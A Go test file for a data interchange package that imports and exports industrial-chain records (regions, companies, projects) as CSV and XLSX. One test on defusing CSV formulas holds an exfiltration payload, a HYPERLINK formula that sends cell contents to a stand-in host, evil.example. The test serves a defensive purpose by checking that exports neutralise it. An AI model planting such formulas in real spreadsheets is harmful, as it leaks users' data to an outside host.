package interchange

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/chainmap/chainmap/graph"
	"github.com/chainmap/chainmap/graph/sqlite"
	"github.com/chainmap/chainmap/graph/storetest"
	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"
)

func openStore(t *testing.T) *sqlite.Store {
	t.Helper()
	s, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "chainmap.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	return s
}

// importPath reads path and imports it into s, returning the problems if invalid.
func importPath(t *testing.T, s graph.Store, path string) (graph.ImportResult, []graph.Problem) {
	t.Helper()
	ctx := context.Background()
	ds, origin, err := Read(ctx, path)
	if err != nil {
		t.Fatalf("read %s: %v", path, err)
	}
	res, err := s.Import(ctx, ds, graph.ImportOptions{Origin: origin})
	var verr *graph.ValidationError
	if errors.As(err, &verr) {
		return res, verr.Problems
	}
	if err != nil {
		t.Fatalf("import %s: %v", path, err)
	}
	return res, nil
}

// TestRoundTrip: store → export → import into a new store → export gives the same
// records and the same files, through both formats.
func TestRoundTrip(t *testing.T) {
	if !slices.ContainsFunc(storetest.Fixture().Links, func(l graph.Link) bool { return l.Role != "" }) {
		t.Fatal("the fixture sets no link role, so the round trip would not cover the role column")
	}
	for _, out := range []string{"export.xlsx", "export-csv"} {
		t.Run(out, func(t *testing.T) {
			ctx := context.Background()
			dir := t.TempDir()
			a := openStore(t)
			if _, err := a.Import(ctx, storetest.Fixture(), graph.ImportOptions{}); err != nil {
				t.Fatal(err)
			}
			first := filepath.Join(dir, out)
			if err := Write(ctx, a, first, WriteOptions{}); err != nil {
				t.Fatal(err)
			}
			b := openStore(t)
			if _, probs := importPath(t, b, first); probs != nil {
				t.Fatalf("re-import problems: %v", probs)
			}
			got, err := graph.ReadAll(ctx, b)
			if err != nil {
				t.Fatal(err)
			}
			if ok, table := storetest.Equal(got, storetest.Fixture()); !ok {
				t.Fatalf("round trip changed %s", table)
			}
			// Importing the export into the store it came from changes nothing.
			res, probs := importPath(t, a, first)
			if probs != nil || res.Written() != 0 {
				t.Errorf("idempotent re-import wrote %d, problems %v", res.Written(), probs)
			}
			if strings.HasSuffix(out, "-csv") {
				second := filepath.Join(dir, "again")
				if err := Write(ctx, b, second, WriteOptions{}); err != nil {
					t.Fatal(err)
				}
				for _, f := range Formats {
					x, _ := os.ReadFile(filepath.Join(first, string(f.Table)+".csv"))
					y, _ := os.ReadFile(filepath.Join(second, string(f.Table)+".csv"))
					if !bytes.Equal(x, y) {
						t.Errorf("%s.csv differs between exports", f.Table)
					}
				}
			}
		})
	}
}

func writeFile(t *testing.T, dir, name, body string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestChineseHeadersAndValues(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "地区.csv", "\ufeff地区编码,地区名称,上级编码,地区类型\n321100,镇江市,,市\n321181,丹阳市,321100,区县\n")
	writeFile(t, dir, "产业集群.csv", "集群编号,集群名称\nC1,生命健康\n")
	writeFile(t, dir, "产业链.csv", "产业链编号,产业链名称,集群编号,是否重点链\nCH,医疗器械,C1,是\n")
	writeFile(t, dir, "环节.csv", "环节编号,产业链编号,环节名称,层级\nL1,CH,家用医疗器械,中游\n")
	writeFile(t, dir, "企业.csv", "统一社会信用代码,企业名称,所在地区编码,营业收入（万元）,企业标签,成立日期,备注\n"+
		"914403001922038216,华为,321181,\"1,234.5\",专精特新；小巨人,2015年6月30日,这一列被忽略\n")
	writeFile(t, dir, "招商项目.csv", "项目编号,项目名称,落地板块,协议投资（亿元）,阶段,签约日期\nP1,项目一,321181,12.5,签约,2024/1/5\n")
	s := openStore(t)
	if _, probs := importPath(t, s, dir); probs != nil {
		t.Fatalf("problems: %v", probs)
	}
	ds, _ := graph.ReadAll(context.Background(), s)
	c := ds.Companies[0]
	if c.RevenueWan != 1234.5 || c.FoundedOn != "2015-06-30" || len(c.Tags) != 2 || c.Tags[1] != "小巨人" {
		t.Errorf("company = %+v", c)
	}
	if !ds.Chains[0].Key || ds.Links[0].Tier != graph.Midstream || ds.Regions[1].Kind != graph.District {
		t.Errorf("enumerations not mapped: %+v %+v %+v", ds.Chains[0], ds.Links[0], ds.Regions[1])
	}
	if p := ds.Projects[0]; p.InvestmentWan != 125000 || p.Stage != graph.Signed || p.SignedOn != "2024-01-05" {
		t.Errorf("project = %+v", p)
	}
}

func TestGBKCSV(t *testing.T) {
	dir := t.TempDir()
	gbk, err := simplifiedchinese.GBK.NewEncoder().String("code,name,kind\n321100,镇江市,city\n")
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, dir, "regions.csv", gbk)
	ds, origin, err := Read(context.Background(), dir)
	if err != nil || len(origin.Problems) != 0 {
		t.Fatal(err, origin.Problems)
	}
	if ds.Regions[0].Name != "镇江市" {
		t.Errorf("GBK not decoded: %q", ds.Regions[0].Name)
	}
}

// TestProblemsAreLocated: every problem names file, row and column, and all of them
// come out in one pass.
func TestProblemsAreLocated(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "regions.csv", "code,name,kind\n321100,镇江市,city\n\n321181,丹阳市,county\n")
	writeFile(t, dir, "companies.csv", "id,name,region_code,revenue_wan,employees,founded_on,colour\n"+
		"A1,甲,321100,abc,10,2020-01-01,red\n"+
		"914403001922038217,乙,999999,5,x,2020-02-30,\n")
	writeFile(t, dir, "stuff.csv", "a,b\n1,2\n")
	s := openStore(t)
	_, probs := importPath(t, s, dir)
	want := []string{
		"stuff.csv:::unknown_table",
		"regions.csv:4:kind:bad_enum", // the blank line 3 still counts
		"companies.csv:1:G:unknown_header",
		"companies.csv:2:revenue_wan:bad_number",
		"companies.csv:3:employees:bad_integer", // unreadable values first
		"companies.csv:3:founded_on:bad_date",
		"companies.csv:3:id:uscc_check",
		"companies.csv:3:region_code:unknown_ref",
	}
	var got []string
	for _, p := range probs {
		row := ""
		if p.Row > 0 {
			row = strconv.Itoa(p.Row)
		}
		got = append(got, p.File+":"+row+":"+p.Column+":"+p.Code)
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if counts, _ := s.Counts(context.Background()); counts[graph.TRegions] != 0 {
		t.Error("a rejected import wrote regions")
	}
}

func TestXLSXDatesAndSheets(t *testing.T) {
	path := filepath.Join(t.TempDir(), "in.xlsx")
	x := excelize.NewFile()
	x.SetSheetName("Sheet1", "地区")
	x.SetSheetRow("地区", "A1", &[]any{"code", "name", "kind"})
	x.SetSheetRow("地区", "A2", &[]any{"321100", "镇江市", "city"})
	x.NewSheet("企业")
	x.SetSheetRow("企业", "A1", &[]any{"id", "name", "region_code", "founded_on", "employees"})
	x.SetSheetRow("企业", "A2", &[]any{"F1", "甲", "321100", 45296, 120})
	style, _ := x.NewStyle(&excelize.Style{NumFmt: 14})
	x.SetCellStyle("企业", "D2", "D2", style)
	x.NewSheet("说明")
	x.SetCellStr("说明", "A1", "notes are ignored")
	x.NewSheet("Sheet9")
	if err := x.SaveAs(path); err != nil {
		t.Fatal(err)
	}
	ds, origin, err := Read(context.Background(), path)
	if err != nil {
		t.Fatal(err)
	}
	if len(origin.Problems) != 1 || origin.Problems[0].Code != graph.PUnknownTable || !strings.Contains(origin.Problems[0].File, "Sheet9") {
		t.Errorf("want only Sheet9 reported, got %v", origin.Problems)
	}
	if c := ds.Companies[0]; c.FoundedOn != "2024-01-05" || c.Employees != 120 {
		t.Errorf("company = %+v", c)
	}
}

func TestTemplateIsImportable(t *testing.T) {
	path := filepath.Join(t.TempDir(), "template.xlsx")
	if err := WriteTemplate(path); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	dvs, _ := x.GetDataValidations("links")
	x.Close()
	var lists []string
	for _, dv := range dvs {
		lists = append(lists, dv.Sqref+" "+dv.Formula1)
	}
	if len(dvs) != 2 || !strings.HasPrefix(dvs[0].Sqref, "E2:") || !strings.Contains(dvs[0].Formula1, "midstream") ||
		!strings.HasPrefix(dvs[1].Sqref, "F2:") || !strings.Contains(dvs[1].Formula1, "institution") {
		t.Errorf("links sheet should have a tier dropdown in E and a role dropdown in F, got %q", lists)
	}
	s := openStore(t)
	res, probs := importPath(t, s, path)
	if probs != nil || res.Written() != 0 {
		t.Errorf("blank template: %v, %d written", probs, res.Written())
	}
}

// TestCSVExportDefusesFormulas: a name that Excel would run as a formula is exported
// with a leading apostrophe, and imported back exactly as it was.
func TestCSVExportDefusesFormulas(t *testing.T) {
	ctx := context.Background()
	names := []string{`=HYPERLINK("http://evil.example/?"&A2,"点击")`, "+86 511", "-负号企业", "@SUM(1)",
		"'单引号", "''两个", "'=已转义", "普通企业", "a=b"}
	ds := &graph.Dataset{Regions: []graph.Region{{Code: "321100", Name: "镇江市", Kind: graph.City}}}
	for i, n := range names {
		ds.Companies = append(ds.Companies, graph.Company{ID: "F-" + strconv.Itoa(i), Name: n, RegionCode: "321100"})
	}
	a := openStore(t)
	if _, err := a.Import(ctx, ds, graph.ImportOptions{}); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(t.TempDir(), "csv")
	if err := Write(ctx, a, dir, WriteOptions{}); err != nil {
		t.Fatal(err)
	}
	body, _ := os.ReadFile(filepath.Join(dir, "companies.csv"))
	for _, line := range strings.Split(string(body), "\n") {
		fields := strings.SplitN(line, ",", 3)
		if len(fields) < 2 {
			continue
		}
		if c := strings.TrimPrefix(fields[1], `"`); c != "" && strings.ContainsRune("=+-@\t", rune(c[0])) {
			t.Errorf("exported cell starts a formula: %q", line)
		}
	}
	b := openStore(t)
	if _, probs := importPath(t, b, dir); probs != nil {
		t.Fatalf("re-import: %v", probs)
	}
	got, err := graph.ReadAll(ctx, b)
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range got.Companies {
		if want := names[i]; c.Name != want {
			t.Errorf("%s: %q after the round trip, want %q", c.ID, c.Name, want)
		}
	}
}
